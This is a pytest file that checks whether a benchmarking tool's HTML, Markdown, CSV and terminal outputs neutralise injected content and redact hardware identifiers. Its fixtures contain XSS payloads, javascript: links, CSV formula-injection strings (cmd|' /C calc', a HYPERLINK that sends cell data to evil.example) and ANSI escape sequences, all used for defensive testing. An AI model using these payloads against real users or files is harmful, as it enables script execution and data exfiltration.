"""Injection and privacy in everything hwbench writes for sharing (issue 6, "Injection", "Privacy").

A result record full of hostile strings (a model named <script>alert(1)</script>, a hostname full
of HTML, formula-looking test names, markdown links) is rendered by `report` (HTML, Markdown, CSV)
and `compare` (HTML, CSV, JSON): nothing executable comes out, CSV cells that a spreadsheet would
run are neutralised, and hostnames, IP/MAC addresses, serial numbers and GPU UUIDs are redacted
unless --no-redact. The HTML is also opened in headless Chromium (marked slow + browser).
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests_helpers_cli import command_exists, run_cli

from hwbench.bench.records import minimal_host, new_record, write_record
from hwbench.schema import BenchResult, GpuInfo

# Secrets that survive every escaping (HTML entities, Markdown backslashes, CSV quoting) and that reach
# every output (they sit in result test names and errors, which every writer prints): so a test can see
# them with --no-redact, and their absence with redaction on means they were redacted, not escaped away.
SECRETS = {
    "hostname": "gpubox-7731",
    "ipv4": "10.20.30.40",
    "ipv6": "fe80::1ff:fe23:4567:890a",
    "mac": "00:1a:2b:3c:4d:5e",
    "serial": "1324517005123",
    "uuid": "GPU-8d2c8f5e-0000-1111-2222-333344445555",
    "user": "/home/alice",
    # not in the host's fields, only in free text: found by pattern, not as a known value
    "mig_uuid": "MIG-1a2b3c4d-5e6f-4a8b-9c0d-1e2f3a4b5c6d",
    "disk_serial": "WD-WX12A3456789",
}
HOSTNAME = f"{SECRETS['hostname']}.corp.example<img src=x onerror=\"document.documentElement.setAttribute('data-xss','host')\">"
MODEL = "<script>document.documentElement.setAttribute('data-xss','model');alert(1)</script>"
LEAK = (
    f"lost GPU {SECRETS['uuid']} (serial: {SECRETS['serial']}) on {SECRETS['hostname']} at {SECRETS['ipv4']} / {SECRETS['ipv6']}, "
    f"MAC {SECRETS['mac']}; log in {SECRETS['user']}/hw.log; {SECRETS['mig_uuid']} gone; disk serial: {SECRETS['disk_serial']}"
)
MD_LINKS = "[click me](javascript:alert(4)) ![pixel](http://evil.example/t.png)"  # a live link and a tracking pixel, if rendered
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_record(tmp_path: Path) -> Path:
    host = minimal_host()
    host.hostname = HOSTNAME
    host.warnings = [
        f"nvidia probe: GPU 1 at {SECRETS['ipv4']} lost; MAC {SECRETS['mac']}; serial: {SECRETS['serial']}",
        "</style><script>alert(3)</script>",
    ]
    host.notes = [f"link-local {SECRETS['ipv6']}", MD_LINKS]
    host.gpus = [
        GpuInfo(index=0, vendor="NVIDIA", name="<b>RTX</b> 3090\"'><svg onload=alert(5)>", uuid=SECRETS["uuid"], serial=SECRETS["serial"])
    ]
    rec = new_record(host)
    rec.model = {"name": MODEL, "quant": "Q4_K_M", "file": "/home/alice/models/<x>.gguf", "synthetic": False, "params": 1_000_000}
    rec.notes = [f"ran on {HOSTNAME} ({SECRETS['ipv4']})"]
    for i, f in enumerate(FORMULAS):
        rec.results.append(
            BenchResult(test=f, n_gen=8, tokens_per_s=10.0 + i, stddev_tokens_per_s=0.1, samples_ns=[10**8], error=f if i % 2 else None)
        )
    rec.results.append(BenchResult(test=f"tg8 {LEAK}", n_gen=8, tokens_per_s=9.0, stddev_tokens_per_s=0.1, samples_ns=[10**8], error=LEAK))
    rec.results.append(BenchResult(test=f"tg4 {MD_LINKS}", n_gen=4, tokens_per_s=8.0, stddev_tokens_per_s=0.1, samples_ns=[10**8]))
    return write_record(rec, tmp_path / "results")


class _Audit(HTMLParser):
    """Every element and attribute a browser would build from the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "base", "form", "meta") and not (
            tag == "meta" and all(k in ("charset", "name", "content") for k, _ in attrs)
        ):
            self.bad.append(f"<{tag}>")
        for k, v in attrs:
            if k.startswith("on"):
                self.bad.append(f"<{tag} {k}=>")
            if k in ("href", "src", "xlink:href", "action", "formaction") and v and not v.startswith(("#", "data:image/")):
                self.bad.append(f"<{tag} {k}={v!r}>")
            text_only = k in ("title", "alt", "class", "id", "lang", "role") or k.startswith(("aria-", "data-"))
            if v and not text_only and "javascript:" in "".join(v.lower().split()):  # style url(), srcdoc, a URL ...
                self.bad.append(f"<{tag} {k}={v!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(html: str) -> None:
    audit = _Audit()
    audit.feed(html)
    assert audit.bad == [], audit.bad
    # the hostile link is on the page, but only as text a reader sees, never as markup
    assert "javascript:alert(4)" in "".join(audit.text)


def assert_neutral_csv(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only plain numbers may start like a formula


def assert_redacted(text: str) -> None:
    for what, secret in SECRETS.items():
        assert secret not in text, f"{what} {secret!r} leaked"
    assert "alice" not in text


def assert_identifiers_shown(text: str) -> None:
    """--no-redact: every secret is there, so the redacted outputs are checked on text that would hold them."""
    missing = [what for what, secret in SECRETS.items() if secret not in text]
    assert missing == [], f"not in this output even with --no-redact: {missing}"


@pytest.fixture(params=["html", "md", "csv", "json"])
def report_ext(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_report_redacts_what_no_redact_shows(record: Path, tmp_path: Path, report_ext: str) -> None:
    """For each report format: with --no-redact every identifier is in the file; by default none is."""
    shown, redacted = tmp_path / f"shown.{report_ext}", tmp_path / f"redacted.{report_ext}"
    code, _, err = run_cli(["report", str(record), "-o", str(shown), "--no-redact"])
    assert code == 0, err
    assert_identifiers_shown(shown.read_text())
    code, _, err = run_cli(["report", str(record), "-o", str(redacted)])
    assert code == 0, err
    assert_redacted(redacted.read_text())


@pytest.fixture
def record(tmp_path: Path) -> Path:
    return hostile_record(tmp_path)


def test_results_file_keeps_identifiers_locally(record: Path) -> None:
    raw = record.read_text()
    d = json.loads(raw)
    assert d["host"]["hostname"] == HOSTNAME
    assert d["host"]["gpus"][0]["uuid"] == SECRETS["uuid"]


def test_report_html_is_inert_and_redacted(record: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    code, _, err = run_cli(["report", str(record), "-o", str(out)])
    assert code == 0, err
    html = out.read_text()
    assert_inert_html(html)
    assert "&lt;script&gt;" in html or "&lt;script>" in html  # the model name shows, as text
    assert_redacted(html)
    assert "lost" in html  # the report says what could not be read (host warnings)


def test_report_html_no_redact_keeps_identifiers_but_stays_inert(record: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    code, _, err = run_cli(["report", str(record), "-o", str(out), "--no-redact"])
    assert code == 0, err
    html = out.read_text()
    assert_inert_html(html)
    assert SECRETS["uuid"] in html or SECRETS["ipv4"] in html


def test_report_csv_neutralises_formulas_and_redacts(record: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    code, _, err = run_cli(["report", str(record), "-o", str(out)])
    assert code == 0, err
    text = out.read_text()
    assert_neutral_csv(text)
    assert_redacted(text)


def test_report_markdown_is_inert_and_redacted(record: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.md"
    code, _, err = run_cli(["report", str(record), "-o", str(out)])
    assert code == 0, err
    md = out.read_text()
    assert "<script" not in md.lower() and "<img" not in md.lower() and "<svg" not in md.lower()
    assert "click me" in md and "evil.example/t.png" in md  # the link text reached the Markdown ...
    # ... as text: no unescaped "[...](" that a renderer would turn into a live link or a tracking pixel
    assert not re.search(r"(?<!\\)\]\(", md), [ln for ln in md.splitlines() if "click me" in ln]
    assert_redacted(md)


def test_report_json_redacts(record: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    code, _, err = run_cli(["report", str(record), "-o", str(out)])
    assert code == 0, err
    assert_redacted(out.read_text())


@pytest.mark.skipif(not command_exists("compare"), reason="waiting for compare")
def test_compare_outputs_are_inert_and_redacted(record: Path, tmp_path: Path) -> None:
    other = hostile_record(tmp_path / "b")
    page = tmp_path / "c.html"
    code, out, err = run_cli(["compare", str(record), str(other), "-o", str(page)])
    assert code == 0, err
    assert_redacted(out + err)
    html = page.read_text()
    assert_inert_html(html)
    assert_redacted(html)
    code, out, err = run_cli(["compare", str(record), str(other), "--csv"])
    assert code == 0, err
    assert_neutral_csv(out)
    assert_redacted(out)
    code, out, err = run_cli(["compare", str(record), str(other), "--json"])
    assert code == 0, err
    json.loads(out)
    assert_redacted(out)


def test_terminal_output_does_not_pass_escape_sequences(tmp_path: Path) -> None:
    """A model name with ANSI escapes / rich markup is printed as text by `check`."""
    from tests_helpers_gguf import write_tiny

    p = write_tiny(tmp_path / "m.gguf", name="\x1b]0;owned\x07\x9b31m evil")
    code, out, err = run_cli(["check", "--gguf", str(p), "--no-gpu", "--ram", "64GB"])
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out


def test_terminal_output_shows_markup_as_text(tmp_path: Path) -> None:
    """rich markup in a GGUF model name is shown as typed by `check`, not interpreted."""
    from tests_helpers_gguf import write_tiny

    p = write_tiny(tmp_path / "m.gguf", name="[bold red]evil[/bold red]")
    code, out, err = run_cli(["check", "--gguf", str(p), "--no-gpu", "--ram", "64GB"])
    assert code == 0, err
    assert "[bold red]evil[/bold red]" in out


def _chromium() -> str | None:
    """The browser tests/report/conftest.py finds (HWBENCH_CHROMIUM, then chromium, chromium-browser ...): one rule."""
    spec = importlib.util.spec_from_file_location("_hwbench_report_conftest", Path(__file__).resolve().parent.parent / "report" / "conftest.py")
    assert spec is not None and spec.loader is not None
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    found: str | None = mod.find_chromium()
    return found


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("redact", [True, False], ids=["redacted", "no-redact"])
def test_nothing_executes_in_a_real_browser(record: Path, tmp_path: Path, redact: bool) -> None:
    chromium = _chromium()
    if chromium is None:  # a failure, not a skip: `make test` installs it; deselect with -m "not browser"
        pytest.fail("headless Chromium not found: `apt-get install -y chromium` (make test does it) or set HWBENCH_CHROMIUM")
    pages = []
    out = tmp_path / "r.html"
    code, _, err = run_cli(["report", str(record), "-o", str(out)] + ([] if redact else ["--no-redact"]))
    assert code == 0, err
    pages.append(out)
    if command_exists("compare"):
        cpage = tmp_path / "c.html"
        code, _, err = run_cli(["compare", str(record), "-o", str(cpage)] + ([] if redact else ["--no-redact"]))
        assert code == 0, err
        pages.append(cpage)
    for page in pages:
        profile = tmp_path / f"chrome-{page.stem}"
        proc = subprocess.run(
            [
                chromium,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--no-first-run",
                f"--user-data-dir={profile}",
                "--virtual-time-budget=3000",
                "--dump-dom",
                page.as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert proc.returncode == 0, proc.stderr[-2000:]
        dom = proc.stdout
        assert "<body" in dom.lower(), dom[:500]
        # every payload would mark the root element if it ran; as text they show as data-xss','...
        assert 'data-xss="' not in dom, "an injected script or event handler executed"
        assert "<script" not in dom.lower()
